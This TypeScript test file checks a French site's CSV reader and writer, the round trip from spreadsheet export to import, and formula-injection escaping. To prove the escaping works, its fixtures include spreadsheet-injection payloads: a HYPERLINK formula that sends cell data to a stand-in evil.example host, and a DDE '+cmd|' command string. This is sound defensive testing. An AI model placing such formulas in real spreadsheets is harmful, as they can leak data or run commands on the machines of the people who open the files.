/**
 * CSV in and out: the small reader and writer on the cases French spreadsheet software produces
 * (BOM or not, CRLF or LF, quoted separators, line breaks and quotes), then the whole site
 * exported as CSV and imported back unchanged, and edits and errors read from CSV files; values
 * starting like a formula written so that no spreadsheet runs them, and read back exactly (issue 19).
 * The site is the fixture site's documents (tests/fixtures/site/) beside a plan of twelve actions
 * with one review round (tests/spreadsheet-fixture.ts), so that the tests hold whatever content/ holds.
 */
import { test } from 'node:test';
import { changedFiles as changedFrom } from '../content-copy.ts';
import { fixtureContent, followUpHeaders } from '../spreadsheet-fixture.ts';
import { FIXTURE_SOURCES } from '../fixture-site.ts';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import ExcelJS from 'exceljs';
import { CsvError, SPREADSHEET_CSV, readCsv, writeCsv } from '../../src/open-data/csv.ts';
import { buildWorkbook, exportCsv, loadContent } from '../../scripts/spreadsheet/workbook.ts';
import { PAYLOADS, formulaCells, looksLikeFormula } from '../csv-payloads.ts';
import { formatImportProblem, formatSummary, importCsv, type SheetProblem } from '../../scripts/spreadsheet/import.ts';

const PLAN = 'essai';
const ROUND = 'Bilan 2024';
const ACTIONS = 12;
/** A fresh copy of the site: the fixture site's documents and the plan « Essai ». */
function copyContent(_prefix: string): string {
  const dir = fixtureContent({ actions: ACTIONS });
  cpSync(join(FIXTURE_SOURCES, 'content'), join(dir, 'content'), { recursive: true });
  return dir;
}
const pristine = copyContent('tableur-csv-');
const changedFiles = (dir: string) => changedFrom(dir, pristine);
const bytes = (text: string) => new TextEncoder().encode(text);

test('the writer: BOM, semicolons, CRLF, and quotes only where a field needs them', () => {
  const text = writeCsv(
    [
      ['a', 'b;c', 'dit « oui »', 'le "mot"', 'deux\nlignes', ' espace', ''],
      ['1.2', '', 'R', '', '', '', 'fin'],
    ],
    SPREADSHEET_CSV,
  );
  assert.equal(text, '\uFEFFa;"b;c";dit « oui »;"le ""mot""";"deux\nlignes";" espace";\r\n1.2;;R;;;;fin\r\n');
});

test('the reader takes back what Excel and LibreOffice write', () => {
  const rows = [
    ['identifiant', 'titre', 'commentaire'],
    ['x/action-1', 'Titre; avec point-virgule', 'Ligne 1\nLigne 2 avec "guillemets"'],
    ['x/action-2', '', ''],
  ];
  // Our own output, with and without BOM, with LF or CRLF line endings.
  const written = writeCsv(rows, SPREADSHEET_CSV);
  assert.deepEqual(readCsv(bytes(written)), rows);
  assert.deepEqual(readCsv(bytes(written.slice(1))), rows, 'sans BOM');
  assert.deepEqual(readCsv(bytes(written.replace(/\r\n/g, '\n'))), rows, 'fins de ligne LF');
  // A line break inside a cell, written as CRLF by some software, is read as a line feed.
  assert.deepEqual(readCsv(bytes('a;"x\r\ny"\r\nb;c')), [
    ['a', 'x\ny'],
    ['b', 'c'],
  ]);
  // LibreOffice quotes every text field; a last line without line break; empty trailing fields.
  assert.deepEqual(readCsv(bytes('"a";"b";""\n"1";"";"3"')), [
    ['a', 'b', ''],
    ['1', '', '3'],
  ]);
  // A comma or tab file (the header decides), quotes around a field holding the other separators.
  assert.deepEqual(readCsv(bytes('a,b\n"x;y",z\n')), [
    ['a', 'b'],
    ['x;y', 'z'],
  ]);
  assert.deepEqual(readCsv(bytes('a\tb\nx,y\tz\n')), [
    ['a', 'b'],
    ['x,y', 'z'],
  ]);
  // A round label with commas stays one column in a semicolon file.
  assert.deepEqual(readCsv(bytes(`identifiant;${ROUND};publics\r\n`))[0], ['identifiant', ROUND, 'publics']);
});

test('the reader takes back an exported file as LibreOffice saves it again: apostrophes kept, unquoted, line feeds', () => {
  // Lines of a file written by writeCsv, opened in LibreOffice Calc 7.4 and saved as CSV (issue 19):
  // a cell that started with a carriage return comes back with a line feed after its apostrophe.
  const saved = [
    'n;valeur',
    '1;"\'=HYPERLINK(""http://evil.example/?q=""&A1,""Cliquez"")"',
    "2;'+cmd|' /C calc'!A0",
    "3;'\t=1+1",
    '4;"\'\n=1+1"',
    "5;'-3 postes",
    "6;'déjà cité'",
    "7;''=1+1",
    '',
  ].join('\n');
  assert.deepEqual(
    readCsv(bytes(saved)).map((row) => row[1]),
    ['valeur', PAYLOADS[0], PAYLOADS[1], '\t=1+1', '\n=1+1', '-3 postes', "'déjà cité'", "'=1+1"],
  );
});

test('the reader refuses what it cannot read safely, saying where and why', () => {
  assert.throws(
    () => readCsv(bytes('a;b\n"ouvert;c\nd;e\n')),
    (e: unknown) => e instanceof CsvError && e.line === 2 && /guillemet ouvert jamais refermé/.test(e.message),
  );
  assert.throws(
    () => readCsv(bytes('a;b\n"x"y;c\n')),
    (e: unknown) => e instanceof CsvError && /un guillemet dans un champ s’écrit doublé/.test(e.message),
  );
  // Windows-1252 ("CSV (séparateur : point-virgule)" of an old Excel): é is the single byte 0xE9.
  assert.throws(
    () => readCsv(Uint8Array.from([0x61, 0x3b, 0xe9, 0x0a])),
    (e: unknown) => e instanceof CsvError && /pas en UTF-8.*CSV UTF-8/.test(e.message),
  );
});

const exportDir = copyContent('tableur-csv-');
const { files: exported } = exportCsv(join(exportDir, 'csv'), exportDir);
const planCsv = join(exportDir, 'csv', `${PLAN}.csv`);

test('the export writes one CSV per document with actions (and one of its indicators), with the workbook’s columns', () => {
  assert.deepEqual(exported.map((f) => relative(exportDir, f)).sort(), [
    'csv/accord-essai.csv',
    'csv/ancienne-convention.csv',
    'csv/essai.csv',
    'csv/nouvelle-convention.csv',
    'csv/plan-essai.csv',
    // The plan follows indicators (issue 24): its Indicateurs sheet as a file of its own.
    'csv/plan-essai.indicateurs.csv',
  ]);
  const text = readFileSync(planCsv, 'utf8');
  assert.ok(text.startsWith('\uFEFFnuméro;titre;identifiant;axe;objectif;libellé;'));
  const rows = readCsv(readFileSync(planCsv));
  assert.deepEqual(rows[0], followUpHeaders(ROUND));
  assert.equal(rows.length, 1 + ACTIONS);
  const only = exportCsv(join(exportDir, 'un'), exportDir, 'content', PLAN);
  assert.deepEqual(only.files, [join(exportDir, 'un', `${PLAN}.csv`)]);
  assert.ok(readFileSync(only.files[0]!).equals(readFileSync(planCsv)));
  assert.throws(() => exportCsv(join(exportDir, 'x'), exportDir, 'content', 'inconnu'), /aucun document « inconnu »/);
});

test('export then import of the unchanged CSV files changes no byte of the content', () => {
  const dir = copyContent('tableur-csv-');
  const result = importCsv(exported, { root: dir });
  assert.deepEqual(result.problems.map(formatImportProblem), []);
  assert.deepEqual(result.warnings, []);
  assert.deepEqual(result.changes, []);
  assert.deepEqual(changedFiles(dir), []);
});

/** The plan's CSV with `edit` applied to its rows, saved as LibreOffice would (no BOM, LF) under `name`. */
function editedCsv(name: string, edit: (rows: string[][], column: (h: string) => number) => void): string {
  const rows = readCsv(readFileSync(planCsv));
  edit(rows, (h) => rows[0]!.indexOf(h));
  const file = join(exportDir, name);
  writeFileSync(file, writeCsv(rows, SPREADSHEET_CSV).slice(1).replace(/\r\n/g, '\n'));
  return file;
}

test('a status and a comment changed in a CSV file reach the action’s file, and nothing else', () => {
  let id = '';
  let from = '';
  const file = editedCsv(`${PLAN}.csv`.replace('.csv', '-modifie.csv'), (rows, column) => {
    const row = rows[3]!;
    id = row[column('identifiant')]!;
    from = row[column(ROUND)]!;
    row[column(ROUND)] = from === 'R' ? 'NR' : 'R';
    row[column(`Commentaire (${ROUND})`)] = 'Point d’étape ; suite en 2026\n(voir le "bilan")';
  });
  const dir = copyContent('tableur-csv-');
  const result = importCsv([file], { root: dir });
  assert.deepEqual(result.problems, []);
  assert.match(formatSummary(result.changes), /^1 statut modifié, 1 commentaire modifié, 0 texte modifié\./);
  const path = `content/actions/${id}.mdx`;
  assert.deepEqual(changedFiles(dir), [path]);
  const to = from === 'R' ? 'NR' : 'R';
  assert.equal(
    readFileSync(join(dir, path), 'utf8'),
    readFileSync(join(pristine, path), 'utf8').replace(
      `{ round: bilan-2024, status: ${from} }`,
      `{ round: bilan-2024, status: ${to}, comment: "Point d’étape ; suite en 2026\\n(voir le \\"bilan\\")" }`,
    ),
  );
  // Exported again, the comment is in its column; imported again, nothing changes.
  const again = exportCsv(join(dir, 'csv'), dir, 'content', PLAN);
  const rows = readCsv(readFileSync(again.files[0]!));
  const at = (header: string) => rows[0]!.indexOf(header);
  assert.equal(
    rows.find((r) => r[at('identifiant')] === id)![at(`Commentaire (${ROUND})`)],
    'Point d’étape ; suite en 2026\n(voir le "bilan")',
  );
  assert.deepEqual(importCsv(again.files, { root: dir }).changes, []);
});

test('errors in CSV files name the file, the row and the column, and nothing is written', () => {
  const file = editedCsv(`${PLAN}.csv`.replace('.csv', '-erreurs.csv'), (rows, column) => {
    rows[2]![column(ROUND)] = 'FINI';
    rows[4]![column('axe')] = '99';
  });
  const stray = join(exportDir, 'autre.csv');
  writeFileSync(stray, '\uFEFFidentifiant;titre\r\ninconnu/action-1;x\r\n');
  const dir = copyContent('tableur-csv-');
  const result = importCsv([file, stray], { root: dir });
  assert.deepEqual(changedFiles(dir), []);
  assert.deepEqual(result.written, []);
  const problems = result.problems as SheetProblem[];
  assert.deepEqual(
    problems.map((p) => [p.sheet, p.row, p.column, p.value]),
    [
      [`${PLAN}-erreurs.csv`, 3, `G (${ROUND})`, 'FINI'],
      [`${PLAN}-erreurs.csv`, 5, 'D (axe)', '99'],
      ['autre.csv', undefined, undefined, undefined],
    ],
  );
  assert.equal(
    formatImportProblem(problems[0]!),
    `✗ fichier « ${PLAN}-erreurs.csv », ligne 3, colonne G (${ROUND}) : statut inconnu pour ce document\n  valeur trouvée : « FINI »\n  valeurs permises : R, NR`,
  );
  assert.match(
    formatImportProblem(problems[2]!),
    /^✗ fichier « autre\.csv » : document introuvable.*\n {2}valeurs permises : .*plan-essai\.csv/,
  );
});

test('the command line imports several CSV files at once and exits 1 on an unreadable one', () => {
  const script = join(process.cwd(), 'scripts/spreadsheet/import-command.ts');
  const dir = copyContent('tableur-csv-');
  const ok = spawnSync(process.execPath, [script, ...exported, '--essai'], { cwd: dir, encoding: 'utf8' });
  assert.equal(ok.status, 0, ok.stderr);
  assert.match(ok.stdout, /^0 statut modifié, 0 commentaire modifié, 0 texte modifié\.\nEssai : aucun fichier n’a été modifié\.\n$/);
  const latin = join(exportDir, `${PLAN}-latin1.csv`);
  writeFileSync(latin, Uint8Array.from([...bytes('identifiant;libell'), 0xe9, 0x0a]));
  const bad = spawnSync(process.execPath, [script, latin], { cwd: dir, encoding: 'utf8' });
  assert.equal(bad.status, 1);
  assert.match(
    bad.stderr,
    /^L’import CSV comporte 1 erreur ; aucun fichier n’a été modifié\.\n\n✗ fichier « .+-latin1\.csv », ligne 1 : fichier qui n’est pas en UTF-8/,
  );
});

/**
 * A copy of the content where the first actions of the plan and its round hold values starting like a
 * formula, as a référent could type them: OWASP's payloads in a title, a wording and comments, and
 * a round label that becomes a column header.
 */
function hostileContent(): string {
  const dir = copyContent('tableur-csv-');
  const edit = (path: string, from: string, to: string) => {
    const file = join(dir, 'content', path);
    const text = readFileSync(file, 'utf8');
    assert.ok(text.includes(from), `${path} : ${from}`);
    writeFileSync(file, text.replace(from, to));
  };
  const action = (n: string) => `actions/${PLAN}/action-${n}.mdx`;
  const status = '  - { round: bilan-2024, status: R }';
  edit(action('1'), 'title: Action 1', `title: ${JSON.stringify(PAYLOADS[0])}`);
  edit(action('1'), status, `  - { round: bilan-2024, status: R, comment: ${JSON.stringify(PAYLOADS[1])} }`);
  edit(action('2'), /^title: .*$/m.exec(readFileSync(join(dir, 'content', action('2')), 'utf8'))![0], 'title: "= voir plus haut"');
  edit(
    action('2'),
    /^wording: .*$/m.exec(readFileSync(join(dir, 'content', action('2')), 'utf8'))![0],
    `wording: ${JSON.stringify(PAYLOADS[3])}`,
  );
  edit(`conventions/${PLAN}.mdx`, `label: ${ROUND}`, `label: "-${ROUND}"`);
  return dir;
}

test('formula-safe: no cell of the exported CSV starts like a formula, and importing it back changes nothing', () => {
  const dir = hostileContent();
  const { files } = exportCsv(join(dir, 'csv'), dir, 'content', PLAN);
  const text = readFileSync(files[0]!, 'utf8');
  // The content is hostile (else this test proves nothing); the file is not.
  assert.ok(readCsv(readFileSync(files[0]!)).flat().filter(looksLikeFormula).length >= 5);
  assert.deepEqual(formulaCells(text, SPREADSHEET_CSV.separator), []);
  assert.ok(text.includes(`;"'-${ROUND}";`), 'en-tête protégé');
  assert.ok(text.includes(`;"'=HYPERLINK(""http://evil.example/?q=""&A1,""Cliquez"")";`));
  const result = importCsv(files, { root: dir });
  assert.deepEqual(result.problems.map(formatImportProblem), []);
  assert.deepEqual(result.changes, []);
});

test('formula-safe: values starting with "-", "+", "=" or an apostrophe typed in a CSV file reach the content unchanged', () => {
  const dir = hostileContent();
  const { files } = exportCsv(join(dir, 'csv'), dir, 'content', PLAN);
  const rows = readCsv(readFileSync(files[0]!));
  const comment = rows[0]!.indexOf(`Commentaire (-${ROUND})`);
  const typed = ['-3 postes', '+33 1 23 45 67 89', "'déjà cité'", '= voir plus haut', "'=1+1"];
  typed.forEach((value, i) => (rows[i + 3]![comment] = value));
  // Saved by our writer (each protected cell after its apostrophe) and, for the first one, as a
  // spreadsheet that drops the apostrophe would save it.
  const file = join(dir, 'csv', `${PLAN}.csv`);
  writeFileSync(file, writeCsv(rows, SPREADSHEET_CSV).replace(`"'-3 postes"`, '-3 postes'));
  const result = importCsv([file], { root: dir });
  assert.deepEqual(result.problems.map(formatImportProblem), []);
  assert.match(formatSummary(result.changes), /^0 statut modifié, 5 commentaires modifiés, 0 texte modifié\./);
  const { entries } = loadContent(dir);
  const commentOf = (id: string) => entries.actions.find((a) => a.id === id)!.data.statuses![0]!.comment;
  assert.deepEqual(
    typed.map((_, i) => commentOf(rows[i + 3]![rows[0]!.indexOf('identifiant')]!)),
    typed,
  );
});

test('the .xlsx export keeps every such value as text: no cell becomes a formula', async () => {
  const dir = hostileContent();
  const workbook = await buildWorkbook(loadContent(dir).entries);
  const reread = new ExcelJS.Workbook();
  await reread.xlsx.load(await workbook.xlsx.writeBuffer());
  const cells: ExcelJS.Cell[] = [];
  reread.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell))));
  const formulaLike = cells.filter((cell) => typeof cell.value === 'string' && looksLikeFormula(cell.value));
  assert.ok(formulaLike.length >= 5, 'jeu d’essai sans formule');
  assert.deepEqual(
    cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined).map((cell) => cell.address),
    [],
  );
  assert.ok(formulaLike.some((cell) => cell.value === PAYLOADS[0]));
});
